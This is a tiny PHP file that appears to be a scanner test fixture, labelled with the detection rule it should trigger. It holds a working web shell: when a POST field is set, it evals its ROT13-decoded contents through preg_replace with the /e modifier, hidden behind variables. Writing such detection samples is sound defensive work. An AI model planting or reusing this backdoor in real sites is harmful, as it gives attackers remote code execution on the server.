<?php
// triage-expect: triage_php_preg_replace_eval
// The /e pattern kept in a variable, the code in the replacement string.
if (isset($_POST['t'])) {
    $rx = '#x#ie';
    $with = 'eval(str_rot13($_POST["t"]))';
    preg_replace($rx, $with, 'x');
}
